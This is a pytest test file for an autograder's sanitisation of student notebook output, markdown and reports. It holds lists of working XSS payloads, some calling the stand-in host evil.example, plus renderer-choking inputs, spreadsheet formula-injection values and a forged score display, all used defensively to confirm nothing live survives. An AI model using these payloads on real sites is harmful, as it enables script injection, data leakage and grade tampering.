"""What of a submission may appear in a page."""

from __future__ import annotations

import base64
import html.parser
import re
from pathlib import Path

import pytest
from adversarial.kit import NOTEBOOK, cell, small_course
from bleach._vendor import html5lib
from grading_course import ASSIGNMENT, Course
from hypothesis import given, settings
from hypothesis import strategies as st
from nbconvert.exporters import HTMLExporter
from nbformat.v4 import new_code_cell
from nbgrader.api import Gradebook
from nbgrader.coursedir import CourseDirectory

from autograder import desk
from autograder.grading import pages, sandbox
from autograder.grading.cells import harmless
from autograder.grading.outcome import Outcome
from autograder.grading.pages import (
    markdown_html,
    output_html,
    safe_attachments,
    safe_html,
    safe_picture,
    visible_question,
    visible_source,
)
from autograder.grading.report import Line, Report

PNG = base64.b64encode(b"\x89PNG\r\n\x1a\n" + bytes(20)).decode()


class Live(html.parser.HTMLParser):
    """Collects everything in a page that would run, load or send."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in {
            "script", "iframe", "frame", "object", "embed", "form", "base", "meta", "link", "svg", "input",
            "button", "style", "video", "audio", "template", "noscript", "textarea", "select", "applet",
        }:  # fmt: skip
            self.found.append(tag)
        for name, value in attrs:
            value = "".join((value or "").split()).lower()
            bad = name.startswith("on") or name in {"srcdoc", "formaction", "srcset", "action", "xlink:href"}
            bad |= name == "href" and not value.startswith(("https://", "http://", "mailto:", "#"))
            bad |= name == "src" and not value.startswith("data:image/")
            bad |= name == "style" and ("url" in value or "expression" in value or "position" in value)
            bad |= name in {"id", "name", "data-link", "data-toggle"}
            if bad:
                self.found.append(f"{tag} {name}={value}")


def live(text: str) -> list[str]:
    parser = Live()
    parser.feed(text)
    parser.close()
    return parser.found


ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<math><mtext><script>alert(1)</script></mtext></math>",
    '<math href="javascript:alert(1)">x</math>',
    '<math><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="jAvAsCrIpT&colon;alert(1)">x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="evil.html">relative</a>',
    '<a href="//evil.example">protocol-relative</a>',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=evil.swf></object><embed src=evil.swf>",
    "<form action=http://evil.example><input name=x><button>go</button></form>",
    "<base href=http://evil.example/>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<style>@import 'http://evil.example/x.css';</style>",
    '<div style="background:url(http://evil.example/x.png)">x</div>',
    '<div style="width:expression(alert(1))">x</div>',
    '<div style="position:fixed;top:0;left:0;width:100%;height:100%">x</div>',
    '<img src="http://evil.example/pixel.png">',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<img srcset="http://evil.example/x.png 1x">',
    "<video src=http://evil.example/x.mp4 autoplay></video>",
    '<input id="test_training_days" value="999">',
    '<div id="submission_id">x</div>',
    '<span data-link="javascript:alert(1)">x</span>',
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<textarea></textarea><script>alert(1)</script>",
    "<template><script>alert(1)</script></template>",
    "<x onclick=alert(1)>y</x>",
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<<script>alert(1)//<</script>",
    "<details open ontoggle=alert(1)>x</details>",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_live_is_left_in_html(attack: str) -> None:
    assert live(safe_html(attack)) == []


@pytest.mark.parametrize(
    "attack",
    [
        *ATTACKS,
        "[x](javascript:alert(1))",
        "[x](<javascript:alert(1)>)",
        "[x][1]\n\n[1]: javascript:alert(1)",
        "![x](http://evil.example/pixel.png)",
        "![x](attachment:evil.svg)",
        "<javascript:alert(1)>",
        "$\\href{javascript:alert(1)}{x}$",
        "$$\\style{background:url(http://evil.example)}{x}$$",
        "$</math><script>alert(1)</script>$",
        "$\\text{<img src=x onerror=alert(1)>}$",
        "\\begin{equation}<script>alert(1)</script>\\end{equation}",
        '[x](http://a "onmouseover=alert(1)")',
        "```<script>alert(1)</script>\n```",
        "# <script>alert(1)</script>",
        "| a |\n|---|\n| <script>alert(1)</script> |",
    ],
)
def test_nothing_live_is_left_in_markdown(attack: str) -> None:
    assert live(markdown_html(attack, {"evil.svg": {"image/svg+xml": "<svg onload=alert(1)>"}})) == []


@settings(max_examples=300, deadline=None)
@given(
    st.lists(
        st.sampled_from(
            [
                *ATTACKS,
                "<b>",
                "</b>",
                "<table>",
                "<math>",
                "</math>",
                "<svg>",
                "--",
                ">",
                "<!--",
                "`",
                "$",
                "\n",
                "](",
            ]
        ),
        max_size=6,
    ).map("".join)
)
def test_no_mixture_is_live(text: str) -> None:
    assert live(safe_html(text)) == []
    assert live(markdown_html(text)) == []


def test_what_people_write_survives() -> None:
    text = "## Why\n\n*η* is **half**: $t = \\frac{O}{N R \\eta}$\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n[book](https://x.org)"
    page = markdown_html(text)
    for part in (
        "<h2>",
        "<em>η</em>",
        "<strong>half</strong>",
        "<math",
        "<mfrac>",
        "<table>",
        "https://x.org",
    ):
        assert part in page


CHOKING = {
    "brackets": "[" * 60_000,
    "quotes": ">" * 20_000,
    "stars": "*a " * 60_000,
    "blocks": "<div>" * 40_000,
    "nested": "<b><i>" * 20_000,
    "dollars": "$" * 60_000,
    "fractions": "$\\frac{" * 5000 + "$",
    "lists": "- " * 30_000,
    "ticks": "`" * 60_000,
    "pictures": "![" * 30_000,
    "letters": "x" * 10**6,
    "table": "|" * 60_000 + "\n|-",
    "links": "[a](" * 20_000,
    "comments": "<!--" * 50_000,
    "closed comments": "<!-- a -->" * 19_000 + "x",
    "tags": "<a<" * 40_000,
    "references": "&" * 100_000,
}


@pytest.mark.timeout(10 * pages.SECONDS)
@pytest.mark.parametrize("text", list(CHOKING.values()), ids=list(CHOKING))
def test_text_made_to_choke_a_renderer_is_shown_all_the_same(text: str) -> None:
    page = markdown_html(text)
    assert page and live(page) == []


def test_pictures_are_what_they_say() -> None:
    assert safe_picture("image/png", PNG) == PNG
    assert safe_picture("image/png", base64.b64encode(b"<svg onload=alert(1)>").decode()) is None
    assert safe_picture("image/svg+xml", PNG) is None
    assert safe_picture("image/png", {"a": 1}) is None
    kept = safe_attachments({'a"><script>.png': {"image/png": PNG, "text/html": "<script>"}, "b": 3})
    assert list(kept.values()) == [{"image/png": PNG}]
    assert live(markdown_html("![a](attachment:p.png)", {"p.png": {"image/png": PNG}})) == []
    assert f"data:image/png;base64,{PNG}" in markdown_html(
        "![a](attachment:p.png)", {"p.png": {"image/png": PNG}}
    )


@pytest.mark.parametrize("attack", ATTACKS)
def test_outputs_are_escaped(attack: str) -> None:
    outputs = [
        {"output_type": "stream", "name": "stdout", "text": attack},
        {"output_type": "error", "ename": attack, "evalue": attack, "traceback": [attack]},
        {"output_type": "error", "ename": attack, "evalue": attack, "traceback": []},
        {"output_type": "display_data", "data": {"text/html": attack, "text/plain": attack}},
        {"output_type": "display_data", "data": {"text/plain": attack}},
        {"output_type": "display_data", "data": {"image/png": PNG, "text/plain": f'"{attack}'}},
        {"output_type": "display_data", "data": {"image/svg+xml": attack, "application/javascript": attack}},
        {"output_type": "execute_result", "data": {"text/html": attack}},
    ]
    for output in outputs:
        assert live(output_html(output)) == []


def test_hidden_tests_are_cut_out_of_a_test_and_of_nothing_else() -> None:
    hidden = "### BEGIN HIDDEN TESTS\nfrom autograder import grade\ngrade('a', a)\n### END HIDDEN TESTS"
    source = f"check('a')\n{hidden}"
    assert visible_source(source) == "check('a')"


def test_comments_vanish_and_the_text_around_them_stays() -> None:
    text = (
        "Above <!-- a --> and\n<!-- b --> below.\n\n<!-- c\n\nd -->\n\n| x <!-- e --> |\n|---|\n| 1 |\n\n"
        "`<!-- code -->`\n\n```\n<!-- block -->\n```\n\nopen <!-- for ever"
    )
    shown = "".join(html5lib.parseFragment(markdown_html(text), namespaceHTMLElements=False).itertext())
    assert re.findall(r"<!--.*", shown) == ["<!-- code -->", "<!-- block -->", "<!-- for ever"]
    assert not re.search(r"\b[a-e]\b", shown)
    assert re.search(r"Above\s+and\s+below\.", shown) and "x" in shown and "1" in shown


@pytest.mark.parametrize("marker", ["### {}", "{}", "<!-- {} -->", "  # {}:"])
def test_a_mark_scheme_is_cut_out_of_a_question(marker: str) -> None:
    """nbgrader takes any line that holds its words, and cuts from there on where no end is given."""
    begin, end = marker.format("BEGIN MARK SCHEME"), marker.format("END MARK SCHEME")
    made = {"source": f"Why?\n{begin}\n1 point: SECRET\n{end}\nAnd how?"}
    assert visible_question(made)["source"] == "Why?\nAnd how?"
    assert visible_question({"source": f"Why?\n{begin}\n1 point: SECRET"})["source"] == "Why?\n"
    assert "SECRET" in made["source"]


def test_a_result_is_shown_as_what_it_is() -> None:
    plain = {"output_type": "execute_result", "data": {"text/plain": "\x1b[31m25.3 <day>\x1b[0m"}}
    table = {"output_type": "execute_result", "data": {"text/html": "<table><tr><td>1</td></tr></table>"}}
    assert output_html(plain) == "<pre>25.3 &lt;day&gt;</pre>"
    assert "<td>1</td>" in output_html(table)
    assert output_html({"output_type": "execute_result", "data": {}}) == ""


# -- the page that a student gets ----------------------------------------------------------------------------

needs_sandbox = pytest.mark.skipif(sandbox.probe() is not None, reason=f"no sandbox: {sandbox.probe()}")
ASKED = "test_exhaustive_test_bill"


@pytest.fixture(scope="module")
def course(tmp_path_factory: pytest.TempPathFactory) -> Course:
    """Return a class whose students show results of their own, graded."""
    course = small_course(tmp_path_factory.mktemp("course"))
    made = course.perfect(NOTEBOOK)
    cell(made, "test_training_days").outputs = [_forged("8888.0")]
    made.cells.append(new_code_cell("'a result ' + 'of my own'"))
    made.cells.append(
        new_code_cell(
            "class Forged:\n    def _repr_html_(self):\n        return '<script>alert(1)</script>"
            '<section><h2><span class="score" id="x">7777.0 / 7777.0</span></h2></section>\'\nForged()'
        )
    )
    course.submit("ada", NOTEBOOK, made)
    course.submit("blank", NOTEBOOK, course.blank(NOTEBOOK))
    assert [outcome.problem for outcome in course.autograde(jobs=1)] == [None, None]
    return course


def _forged(number: str) -> dict[str, object]:
    data = {"text/plain": number}
    return {"output_type": "execute_result", "data": data, "metadata": {}, "execution_count": 1}


def feedback(course: Course, student: str = "ada") -> str:
    """Return a student's page."""
    outcome = course.api().generate_feedback(ASSIGNMENT, student, force=True)
    assert outcome["success"], outcome
    (page,) = (course.root / "autograder" / "feedback" / student).rglob("*.html")
    return page.read_text(encoding="utf-8")


def words(page: str, *path: str) -> str:
    """Return what is read in a part of a page, in one line."""
    found = html5lib.parse(page, namespaceHTMLElements=False).findall(".//" + "/".join(path or ("body",)))
    assert found, path
    return " ".join(" ".join(text for part in found for text in part.itertext()).split())


@needs_sandbox
def test_graders_see_the_mark_scheme_and_students_do_not(course: Course) -> None:
    page = feedback(course)
    assert "## 11" not in page and "which team is done first" in words(page)
    assert "MARK SCHEME" not in page and "1 point:" not in page
    config = course.config
    config.HTMLExporter.template_name = "formgrade"
    names = {"student": "x", "index": 0, "total": 1, "base_url": "", "notebook_path": "x", "last_name": None}
    names |= {"notebook_id": "x", "assignment_id": "x", "submission_id": "x"}
    path = course.root / "autograder" / "autograded" / "ada" / ASSIGNMENT / f"{NOTEBOOK}.ipynb"
    graders, _ = HTMLExporter(config=config).from_filename(str(path), resources=names)
    assert "BEGIN MARK SCHEME" in graders and "1 point:" in graders


@needs_sandbox
def test_results_are_shown_but_the_points_line_of_a_test(course: Course) -> None:
    page = feedback(course)
    assert "a result of my own" in words(page, "pre")
    numbers = next(c for c in course.autograded("ada", NOTEBOOK).cells if c.id == "numbers_iron_law")
    assert [o.output_type for o in numbers.outputs] == ["execute_result"]
    assert "work of the whole training run" in words(page, "table")
    for name in ("training_days", "which_are_times", "iron_law"):
        section = html5lib.parse(page, namespaceHTMLElements=False).find(f".//section[@id='test_{name}']")
        assert section is not None
        outputs = ["".join(part.itertext()).strip() for part in section.findall("pre")[1:]]
        assert not [text for text in outputs if re.fullmatch(r"[\d.]+", text)]
    assert "8888" not in page


@needs_sandbox
def test_a_result_that_is_dressed_up_as_a_mark_is_text(course: Course) -> None:
    page = feedback(course)
    assert "7777.0 / 7777.0" in words(page)
    assert "7777" not in words(page, "section") and "7777" not in words(page, "header")
    assert [what for what in live(page.partition("<body>")[2]) if not what.startswith("section id=")] == []
    tree = html5lib.parse(page, namespaceHTMLElements=False)
    assert len(tree.findall(".//*[@class='score']")) == 4
    (made,) = [part for part in tree.findall(".//*[@class='output']") if part.find(".//h2") is not None]
    assert "7777.0 / 7777.0" in "".join(made.itertext())


@needs_sandbox
def test_what_is_not_marked_yet_is_no_zero(course: Course) -> None:
    """An answer in prose waits for a TA; an empty one is marked, and so is one that a TA gave nothing for."""
    page = feedback(course)
    assert "explain_utilisation not marked yet / 3.0" in words(page, "nav")
    assert "Still to be marked by hand: 3.0 points" in words(page, "header", "p")
    blank = feedback(course, "blank")
    assert "explain_utilisation 0.0 / 3.0" in words(blank, "nav")
    assert "marked" not in words(blank, "header")
    coursedir = course.coursedir()

    def mark(score: float | None, waits: bool) -> str:
        with Gradebook(coursedir.db_url, coursedir.course_id) as gradebook:
            grade = gradebook.find_grade("explain_utilisation", NOTEBOOK, ASSIGNMENT, "ada")
            grade.manual_score, grade.needs_manual_grade = score, waits
            gradebook.db.commit()
        return words(feedback(course), "header")

    try:
        for score in (0.0, 2.0):
            marked = mark(score, False)
            assert f"explain_utilisation {score} / 3.0" in marked and "be marked" not in marked
        again = mark(2.0, True)  # handed in again after a TA had marked it
        assert "explain_utilisation 2.0 / 3.0, to be marked again" in again
        assert "Still to be marked by hand: 3.0 points" in again
    finally:
        mark(None, True)


@needs_sandbox
def test_a_question_keeps_its_name(tmp_path: Path) -> None:
    """Only what nbgrader's test cells start with is taken off."""
    course = Course.make(tmp_path, ("01_ai_moment_exercises",))
    course.submit("ada", "01_ai_moment_exercises", course.blank("01_ai_moment_exercises"))
    assert ASKED in course.maxima()
    course.autograde(jobs=1)
    listed = words(feedback(course), "nav").split()
    assert ASKED.removeprefix("test_") in listed and "exhaustive_bill" not in listed


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1+2", "@x", "\t=1", " =1", "|x", "%x", "\n=cmd"])
def test_no_cell_of_a_table_is_a_formula(text: str) -> None:
    assert str(harmless(text)).startswith("'")
    assert harmless(-2.5) == -2.5


def test_the_report_shows_names_and_notes_as_text(tmp_path: Path) -> None:
    evil = "<script>alert(1)</script>\n\x1b[2J"
    outcome = Outcome(evil, notes=[evil], problem=evil)
    report = Report("ch01", ("a",), 1.0, (Line(evil, (1.0,), 1.0, False, False, 1),), (outcome,))
    coursedir = CourseDirectory(root=str(tmp_path), db_url=f"sqlite:///{tmp_path}/gradebook.db")
    with Gradebook(coursedir.db_url) as gradebook:
        gradebook.add_assignment("ch01")
        shown = desk.page(report, desk.figures(gradebook, coursedir, report), ".")
    link = r"#[a-z]+|\./[a-z_]+\.csv|\./students/[\w%/.]+"
    own = rf"meta( name=viewport)?|style|(h2|caption) id=[a-z-]+|a href=({link})"
    assert not [one for one in live(shown) if not re.fullmatch(own, one)]
    assert "alert" in shown and "\x1b" not in shown
    assert "\x1b" not in report.table()
    assert len([line for line in report.table().splitlines() if "alert" in line]) == 3
